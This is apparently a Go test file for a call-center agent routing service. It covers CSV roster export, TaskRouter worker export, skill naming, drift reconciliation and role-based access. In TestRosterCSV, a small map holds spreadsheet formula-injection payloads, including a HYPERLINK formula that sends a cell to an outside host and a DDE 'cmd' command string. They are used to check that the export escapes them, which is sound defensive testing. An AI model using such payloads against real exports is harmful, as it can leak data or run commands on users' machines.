package routing_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/skillgate/skillgate/server/internal/apitest"
	"github.com/skillgate/skillgate/server/internal/audit"
	"github.com/skillgate/skillgate/server/internal/auth"
	"github.com/skillgate/skillgate/server/internal/routing"
)

const (
	cardsSkill = "fenmore_bank__card_services"
	salesSkill = "larkspur_life__direct_sales"
)

// agentWithExternal creates an agent whose routing-system id is ext.
func (w *world) agentWithExternal(name, ext string) *auth.User {
	w.t.Helper()
	u, err := w.env.App.Auth.CreateUserAs(context.Background(), audit.System("test"), auth.CreateUserInput{
		Email: name + "@x.test", Role: auth.RoleAgent, Password: apitest.Password, ExternalID: ext,
	})
	if err != nil {
		w.t.Fatalf("create agent %s: %v", name, err)
	}
	return u
}

// center is a small center for the export tests: amy eligible for cards,
// bob assigned to cards and then revoked, tina assigned to sales and
// licensed in TX (until 2026-06-01) and FL, carl certified for cards but
// not assigned.
type center struct {
	*world
	amy, bob, tina, carl *auth.User
}

func newCenter(t *testing.T) *center {
	w := newWorld(t)
	c := &center{world: w, amy: w.agent("amy"), bob: w.agent("bob"), tina: w.agent("tina"), carl: w.agent("carl")}
	w.certify(c.amy.ID, w.cards, 90)
	w.mustAssign(c.amy.ID, w.cards)
	w.certify(c.bob.ID, w.cards, 90)
	w.mustAssign(c.bob.ID, w.cards)
	w.setCert(c.bob.ID, w.cards, "revoked", nil, nil)
	w.certify(c.tina.ID, w.sales, 120)
	w.license(c.tina.ID, "TX", "verified", bothLines, "2025-01-01", "2026-06-01")
	w.appoint(c.tina.ID, "TX", bothLines, "2025-01-01")
	w.licensedAndAppointed(c.tina.ID, "2027-01-01", "FL")
	w.mustAssign(c.tina.ID, w.sales)
	w.certify(c.carl.ID, w.cards, 90)
	return c
}

// TestRosterCSV checks the roster export: columns, values, the eligible
// filter, content negotiation and formula escaping.
func TestRosterCSV(t *testing.T) {
	t.Parallel()
	c := newCenter(t)
	// External ids a spreadsheet would run as formulas, and one that needs quoting.
	evil := map[string]string{
		"eve": `=HYPERLINK("http://x.test/?"&A1,"click")`, "pat": "+1+cmd|' /C calc'!A0", "mo": "-2+3", "al": "@SUM(1)",
		"q": `say "hi", ok`,
	}
	for name, ext := range evil {
		u := c.agentWithExternal(name, ext)
		c.certify(u.ID, c.cards, 90)
		c.mustAssign(u.ID, c.cards)
	}
	read := func(t *testing.T, res *apitest.Response) [][]string {
		t.Helper()
		if res.Status != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
			t.Fatalf("got %d %q %s, want 200 text/csv", res.Status, res.Header.Get("Content-Type"), res.Body)
		}
		recs, err := csv.NewReader(strings.NewReader(string(res.Body))).ReadAll()
		if err != nil {
			t.Fatalf("parse csv: %v\n%s", err, res.Body)
		}
		want := []string{"agent_id", "external_id", "email", "assignment_status", "eligible", "reasons", "valid_until", "covered_states", "name"}
		if !slices.Equal(recs[0], want) {
			t.Fatalf("got header %v, want %v", recs[0], want)
		}
		return recs[1:]
	}
	byEmail := func(rows [][]string) map[string][]string {
		m := map[string][]string{}
		for _, r := range rows {
			m[r[2]] = r
		}
		return m
	}

	t.Run("cards, every assigned agent", func(t *testing.T) {
		rows := byEmail(read(t, c.env.Do(apitest.Request{Method: "GET", Path: "/api/v1/programs/" + c.cards + "/roster?format=csv", Token: c.key})))
		if len(rows) != 2+len(evil) {
			t.Fatalf("got %d rows, want %d", len(rows), 2+len(evil))
		}
		amy := rows["amy@x.test"]
		wantUntil := c.env.Clock.Now().Add(90 * day).UTC().Format(time.RFC3339)
		if amy[0] != c.amy.ID || amy[1] != "acd-amy" || amy[3] != "active" || amy[4] != "true" || amy[5] != "" || amy[6] != wantUntil {
			t.Errorf("got amy %v, want her id, acd-amy, active, true, no reasons, %s", amy, wantUntil)
		}
		if bob := rows["bob@x.test"]; bob[4] != "false" || bob[5] != routing.ReasonCertificationRevoked || bob[6] != "" {
			t.Errorf("got bob %v, want not eligible, certification_revoked, no valid_until", bob)
		}
		for name, ext := range evil {
			got := rows[name+"@x.test"][1]
			want := ext
			if strings.ContainsAny(ext[:1], "=+-@") {
				want = "'" + ext
			}
			if got != want {
				t.Errorf("external id %q: got cell %q, want %q", ext, got, want)
			}
		}
		if _, ok := rows["carl@x.test"]; ok {
			t.Error("carl is not assigned and must not be in the roster")
		}
	})
	t.Run("sales, covered states and reasons by state, Accept header", func(t *testing.T) {
		res := c.env.Do(apitest.Request{Method: "GET", Path: "/api/v1/programs/" + c.sales + "/roster", Token: c.key,
			Header: map[string]string{"Accept": "text/csv"}})
		rows := read(t, res)
		if len(rows) != 1 {
			t.Fatalf("got %d rows, want tina only", len(rows))
		}
		tina := rows[0]
		if tina[4] != "false" || tina[7] != "FL TX" || !strings.Contains(tina[5], "license_missing:GA") || tina[6] != "2026-06-01T00:00:00Z" {
			t.Errorf("got %v, want not eligible without a state, license_missing:GA, covered FL TX, valid until the TX expiry", tina)
		}
		rows = read(t, c.env.Do(apitest.Request{Method: "GET", Path: "/api/v1/programs/" + c.sales + "/roster?format=csv&state=TX", Token: c.key}))
		if rows[0][4] != "true" || rows[0][7] != "" {
			t.Errorf("TX caller: got %v, want eligible, no covered states column", rows[0])
		}
	})
	t.Run("only the eligible", func(t *testing.T) {
		rows := read(t, c.env.Do(apitest.Request{Method: "GET", Path: "/api/v1/programs/" + c.cards + "/roster?format=csv&eligible=true", Token: c.key}))
		for _, r := range rows {
			if r[4] != "true" {
				t.Errorf("got a not eligible row %v", r)
			}
		}
		if len(rows) != 1+len(evil) {
			t.Errorf("got %d eligible rows, want %d", len(rows), 1+len(evil))
		}
	})
}

var skillRE = regexp.MustCompile(`^[a-z0-9_]+$`)

type trExport struct {
	CheckedAt  time.Time  `json:"checked_at"`
	ValidUntil *time.Time `json:"valid_until"`
	Skills     []routing.Skill
	Workers    []routing.Worker
}

func (e trExport) worker(id string) *routing.Worker {
	for i := range e.Workers {
		if e.Workers[i].AgentID == id {
			return &e.Workers[i]
		}
	}
	return nil
}

// TestTaskRouterExport checks the worker attributes, the skill names and
// who may export what.
func TestTaskRouterExport(t *testing.T) {
	t.Parallel()
	c := newCenter(t)
	res := c.env.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/taskrouter-workers", Token: c.key})
	var ex trExport
	res.JSON(t, &ex)
	if res.Status != 200 || res.Header.Get("Cache-Control") != "no-store" {
		t.Fatalf("got %d %s, want 200 no-store", res.Status, res.Body)
	}
	t.Run("no hyphens anywhere a skill appears", func(t *testing.T) {
		if len(ex.Skills) == 0 {
			t.Fatal("got no skills")
		}
		for _, s := range ex.Skills {
			if !skillRE.MatchString(s.Skill) {
				t.Errorf("skill %q has characters TaskRouter cannot take", s.Skill)
			}
		}
		for _, w := range ex.Workers {
			for _, s := range w.Attributes.Skills {
				if !skillRE.MatchString(s) {
					t.Errorf("worker %s: skill %q", w.Email, s)
				}
			}
			for s := range w.Attributes.States {
				if !skillRE.MatchString(s) || !slices.Contains(w.Attributes.Skills, s) {
					t.Errorf("worker %s: states key %q is not one of its skills %v", w.Email, s, w.Attributes.Skills)
				}
			}
		}
	})
	t.Run("skill catalog", func(t *testing.T) {
		i := slices.IndexFunc(ex.Skills, func(s routing.Skill) bool { return s.Skill == salesSkill })
		j := slices.IndexFunc(ex.Skills, func(s routing.Skill) bool { return s.Skill == cardsSkill })
		if i < 0 || j < 0 {
			t.Fatalf("got skills %+v, want %s and %s", ex.Skills, salesSkill, cardsSkill)
		}
		if s := ex.Skills[i]; s.ProgramID != c.sales || !slices.Equal(s.States, []string{"AZ", "FL", "GA", "NC", "TX"}) {
			t.Errorf("got %+v, want the sales program with its five states", s)
		}
		if s := ex.Skills[j]; s.ProgramID != c.cards || len(s.States) != 0 {
			t.Errorf("got %+v, want the cards program with no states", s)
		}
	})
	cases := []struct {
		name   string
		agent  *auth.User
		skills []string
		states map[string][]string
	}{
		{"eligible, unlicensed program: a skill for every state", c.amy, []string{cardsSkill}, map[string][]string{}},
		{"revoked: listed with no skills", c.bob, []string{}, map[string][]string{}},
		{"licensed program: the skill with the covered states", c.tina, []string{salesSkill}, map[string][]string{salesSkill: {"FL", "TX"}}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			w := ex.worker(tc.agent.ID)
			if w == nil {
				t.Fatalf("%s is not in the export", tc.agent.Email)
			}
			if !slices.Equal(w.Attributes.Skills, tc.skills) || fmt.Sprint(w.Attributes.States) != fmt.Sprint(tc.states) {
				t.Errorf("got %+v, want skills %v states %v", w.Attributes, tc.skills, tc.states)
			}
			if w.ExternalID == nil || *w.ExternalID != "acd-"+strings.TrimSuffix(tc.agent.Email, "@x.test") {
				t.Errorf("got external id %v", w.ExternalID)
			}
		})
	}
	if ex.worker(c.carl.ID) != nil {
		t.Error("carl is assigned nowhere and must not be exported")
	}
	amyUntil := c.env.Clock.Now().Add(90 * day)
	if tx := time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC); ex.ValidUntil == nil || !ex.ValidUntil.Equal(amyUntil) ||
		ex.worker(c.tina.ID).ValidUntil == nil || !ex.worker(c.tina.ID).ValidUntil.Equal(tx) {
		t.Errorf("got valid_until %v (tina %v), want amy's certification expiry %v overall and tina's TX license expiry %v",
			ex.ValidUntil, ex.worker(c.tina.ID).ValidUntil, amyUntil, tx)
	}
	c.env.User("super@x.test", auth.RoleSupervisor, c.fenmore)
	c.env.User("trainer@x.test", auth.RoleTrainer, c.larkspur)
	c.env.User("officer@x.test", auth.RoleCompliance)
	c.env.User("agentx@x.test", auth.RoleAgent, c.fenmore)
	hooks, err := c.env.App.Auth.CreateAPIKey(c.admin, auth.CreateAPIKeyInput{Name: "hooks", Scopes: []string{auth.ScopeWebhooksManage}})
	if err != nil {
		t.Fatal(err)
	}
	perms := []struct {
		name, token, query string
		want               int
		skills             []string // every skill the answer must hold, and no skill of the other client
	}{
		{"eligibility key", c.key, "", 200, []string{cardsSkill, salesSkill}},
		{"admin", c.adminTok, "", 200, []string{cardsSkill, salesSkill}},
		{"compliance", c.env.Login("officer@x.test"), "", 200, []string{cardsSkill, salesSkill}},
		{"supervisor: their client only", c.env.Login("super@x.test"), "", 200, []string{cardsSkill}},
		{"supervisor asking for their client", c.env.Login("super@x.test"), "?client_id=" + c.fenmore, 200, []string{cardsSkill}},
		{"supervisor asking for another client", c.env.Login("super@x.test"), "?client_id=" + c.larkspur, 403, nil},
		{"trainer: their client only", c.env.Login("trainer@x.test"), "", 200, []string{salesSkill}},
		{"agent", c.env.Login("agentx@x.test"), "", 403, nil},
		{"webhooks key", hooks.Key, "", 403, nil},
		{"nobody", "", "", 401, nil},
		{"bad client id", c.key, "?client_id=fenmore", 400, nil},
	}
	for _, tc := range perms {
		t.Run("access: "+tc.name, func(t *testing.T) {
			res := c.env.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/taskrouter-workers" + tc.query, Token: tc.token})
			if res.Status != tc.want {
				t.Fatalf("got %d %s, want %d", res.Status, res.Body, tc.want)
			}
			if tc.want == 400 && !strings.Contains(string(res.Body), `"client_id"`) {
				t.Errorf("got %s, want the error to name client_id", res.Body)
			}
			if tc.want != 200 {
				return
			}
			var ex trExport
			res.JSON(t, &ex)
			for _, s := range ex.Skills {
				if !slices.Contains(tc.skills, s.Skill) && (s.Skill == cardsSkill || s.Skill == salesSkill) {
					t.Errorf("got skill %s, which this caller may not see", s.Skill)
				}
			}
			for _, want := range tc.skills {
				if !slices.ContainsFunc(ex.Skills, func(s routing.Skill) bool { return s.Skill == want }) {
					t.Errorf("skill %s missing", want)
				}
			}
			for _, w := range ex.Workers {
				for _, s := range w.Attributes.Skills {
					if !slices.Contains(tc.skills, s) {
						t.Errorf("worker %s has skill %s outside the caller's clients", w.Email, s)
					}
				}
			}
		})
	}
	// Once the TX license lapses, tina keeps the skill for FL only.
	c.env.Clock.Set(time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
	res = c.env.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/taskrouter-workers?client_id=" + c.larkspur, Token: c.key})
	var later trExport
	res.JSON(t, &later)
	if w := later.worker(c.tina.ID); res.Status != 200 || w == nil || !slices.Equal(w.Attributes.States[salesSkill], []string{"FL"}) {
		t.Errorf("after the TX expiry: got %d %s, want tina with FL only", res.Status, res.Body)
	}
}

func TestSkillName(t *testing.T) {
	t.Parallel()
	cases := []struct{ client, program, want string }{
		{"fenmore-bank", "card-services", "fenmore_bank__card_services"},
		{"acme", "sales", "acme__sales"},
		{"a-b-c", "x1-2", "a_b_c__x1_2"},
	}
	for _, tc := range cases {
		if got := routing.SkillName(tc.client, tc.program); got != tc.want || strings.Contains(got, "-") {
			t.Errorf("SkillName(%q, %q): got %q, want %q", tc.client, tc.program, got, tc.want)
		}
	}
}

type reconcileAnswer struct {
	Compared    int
	NotEligible []routing.Drift `json:"not_eligible"`
	Missing     []routing.Drift
	Unknown     []routing.Unknown
}

func driftKeys(ds []routing.Drift) []string {
	out := []string{}
	for _, d := range ds {
		out = append(out, d.AgentID+"/"+d.Skill)
	}
	slices.Sort(out)
	return out
}

// TestReconcile checks drift in both directions, unknowns, scoping and
// bad input.
func TestReconcile(t *testing.T) {
	t.Parallel()
	c := newCenter(t)
	ghostProgram := uuid.NewString()
	post := func(token string, body any) *apitest.Response {
		return c.env.Do(apitest.Request{Method: "POST", Path: "/api/v1/eligibility/reconcile", Token: token, Body: body})
	}
	type acd = map[string]any
	cases := []struct {
		name        string
		agents      []acd
		notEligible []string // agent/skill
		reasons     map[string]string
		missing     []string
		unknown     []routing.Unknown
		compared    int
	}{
		{
			name: "in step",
			agents: []acd{{"agent": c.amy.ID, "programs": []string{c.cards}},
				{"agent": "ext:acd-tina", "skills": []string{salesSkill}}},
			compared: 2, notEligible: []string{}, missing: []string{},
		},
		{
			name:        "routed where not eligible, with reasons",
			agents:      []acd{{"agent": c.amy.ID, "programs": []string{c.cards}}, {"agent": "ext:acd-tina", "skills": []string{salesSkill}}, {"agent": c.bob.ID, "skills": []string{cardsSkill}}, {"agent": c.carl.ID, "programs": []string{c.cards}}, {"agent": c.amy.ID, "skills": []string{salesSkill}}},
			compared:    5,
			notEligible: []string{c.amy.ID + "/" + salesSkill, c.bob.ID + "/" + cardsSkill, c.carl.ID + "/" + cardsSkill},
			reasons:     map[string]string{c.bob.ID: routing.ReasonCertificationRevoked, c.carl.ID: routing.ReasonNotAssigned, c.amy.ID: routing.ReasonNotAssigned},
			missing:     []string{},
		},
		{
			name:        "eligible agents the ACD lacks, listed or not",
			agents:      []acd{{"agent": c.amy.ID, "programs": []string{}}},
			notEligible: []string{}, missing: []string{c.amy.ID + "/" + cardsSkill, c.tina.ID + "/" + salesSkill},
		},
		{
			name: "unknown agents, programs and skills are listed, the rest compared",
			agents: []acd{{"agent": "ext:ghost", "skills": []string{cardsSkill}}, {"agent": uuid.NewString()},
				{"agent": c.amy.ID, "programs": []string{c.cards, ghostProgram}, "skills": []string{"nope__nope", "fenmore-bank__card-services", cardsSkill}},
				{"agent": "ext:acd-tina", "skills": []string{salesSkill}}},
			compared: 2, notEligible: []string{}, missing: []string{},
			unknown: []routing.Unknown{{Index: 0, Agent: "ext:ghost", Kind: "agent", Value: "ext:ghost"}, {Index: 1, Kind: "agent"},
				{Index: 2, Agent: c.amy.ID, Kind: "program", Value: ghostProgram}, {Index: 2, Agent: c.amy.ID, Kind: "skill", Value: "nope__nope"},
				{Index: 2, Agent: c.amy.ID, Kind: "skill", Value: "fenmore-bank__card-services"}},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			res := post(c.key, acd{"agents": tc.agents})
			var got reconcileAnswer
			res.JSON(t, &got)
			if res.Status != 200 {
				t.Fatalf("got %d %s, want 200", res.Status, res.Body)
			}
			if got.Compared != tc.compared {
				t.Errorf("got compared %d, want %d", got.Compared, tc.compared)
			}
			if k := driftKeys(got.NotEligible); !slices.Equal(k, sorted(tc.notEligible)) {
				t.Errorf("got not eligible %v, want %v", k, sorted(tc.notEligible))
			}
			for _, d := range got.NotEligible {
				if want := tc.reasons[d.AgentID]; len(d.Reasons) == 0 || d.Reasons[0].Code != want {
					t.Errorf("%s/%s: got reasons %+v, want %s first", d.AgentID, d.Skill, d.Reasons, want)
				}
			}
			if k := driftKeys(got.Missing); !slices.Equal(k, sorted(tc.missing)) {
				t.Errorf("got missing %v, want %v", k, sorted(tc.missing))
			}
			for _, d := range got.Missing {
				if d.Skill == salesSkill && (d.CoveredStates == nil || !slices.Equal(*d.CoveredStates, []string{"FL", "TX"})) {
					t.Errorf("missing sales for tina: got covered %v, want FL TX", d.CoveredStates)
				}
			}
			if len(got.Unknown) != len(tc.unknown) {
				t.Fatalf("got unknown %+v, want %+v", got.Unknown, tc.unknown)
			}
			for i, u := range tc.unknown {
				g := got.Unknown[i]
				if g.Index != u.Index || g.Kind != u.Kind || (u.Agent != "" && (g.Agent != u.Agent || g.Value != u.Value)) {
					t.Errorf("unknown %d: got %+v, want %+v", i, g, u)
				}
			}
		})
	}

	t.Run("scope: a supervisor reconciles their client only", func(t *testing.T) {
		c.env.User("super@x.test", auth.RoleSupervisor, c.fenmore)
		res := post(c.env.Login("super@x.test"), acd{"agents": []acd{{"agent": "ext:acd-tina", "programs": []string{c.sales}}}})
		var got reconcileAnswer
		res.JSON(t, &got)
		if res.Status != 200 || len(got.Unknown) != 1 || got.Unknown[0].Kind != "program" ||
			!slices.Equal(driftKeys(got.Missing), []string{c.amy.ID + "/" + cardsSkill}) {
			t.Errorf("got %d %s, want the sales program unknown and only amy's cards missing", res.Status, res.Body)
		}
		res = post(c.env.Login("super@x.test"), acd{"client_id": c.larkspur, "agents": []acd{}})
		if res.Status != 403 {
			t.Errorf("another client: got %d %s, want 403", res.Status, res.Body)
		}
	})
	t.Run("access", func(t *testing.T) {
		c.env.User("agenty@x.test", auth.RoleAgent)
		for _, tc := range []struct {
			token string
			want  int
		}{{c.env.Login("agenty@x.test"), 403}, {"", 401}, {c.adminTok, 200}} {
			if res := post(tc.token, acd{"agents": []acd{}}); res.Status != tc.want {
				t.Errorf("got %d %s, want %d", res.Status, res.Body, tc.want)
			}
		}
	})

	tooMany := make([]acd, routing.MaxReconcileAgents+1)
	for i := range tooMany {
		tooMany[i] = acd{"agent": "ext:a"}
	}
	manyRoutes := make([]string, routing.MaxReconcileRoutes+1)
	for i := range manyRoutes {
		manyRoutes[i] = "s"
	}
	bad := []struct {
		name  string
		body  any
		field string
	}{
		{"no agents", acd{}, "agents"},
		{"bad agent", acd{"agents": []acd{{"agent": c.amy.ID}, {"agent": "amy"}}}, "agents[1].agent"},
		{"empty external id", acd{"agents": []acd{{"agent": "ext:"}}}, "agents[0].agent"},
		{"bad program id", acd{"agents": []acd{{"agent": c.amy.ID, "programs": []string{c.cards, "cards"}}}}, "agents[0].programs[1]"},
		{"empty skill", acd{"agents": []acd{{"agent": c.amy.ID, "skills": []string{""}}}}, "agents[0].skills[0]"},
		{"too many routes", acd{"agents": []acd{{"agent": c.amy.ID, "skills": manyRoutes}}}, "agents[0].programs"},
		{"too many agents", acd{"agents": tooMany}, "agents"},
		{"bad client id", acd{"client_id": "x", "agents": []acd{}}, "client_id"},
	}
	for _, tc := range bad {
		t.Run("400: "+tc.name, func(t *testing.T) {
			res := c.env.Do(apitest.Request{Method: "POST", Path: "/api/v1/eligibility/reconcile", Token: c.key, Body: tc.body, NoValidate: true})
			var e struct {
				Code   string
				Fields map[string]string
			}
			res.JSON(t, &e)
			if res.Status != 400 || e.Code != "invalid" || e.Fields[tc.field] == "" {
				t.Errorf("got %d %s, want 400 naming %s", res.Status, res.Body, tc.field)
			}
		})
	}
	t.Run("400: unknown field", func(t *testing.T) {
		res := c.env.Do(apitest.Request{Method: "POST", Path: "/api/v1/eligibility/reconcile", Token: c.key,
			Body: `{"agents": [], "extra": 1}`, Header: map[string]string{"Content-Type": "application/json"}, NoValidate: true})
		if res.Status != 400 || !strings.Contains(string(res.Body), "extra") {
			t.Errorf("got %d %s, want 400 naming extra", res.Status, res.Body)
		}
	})
}

func sorted(xs []string) []string {
	out := slices.Clone(xs)
	slices.Sort(out)
	return out
}
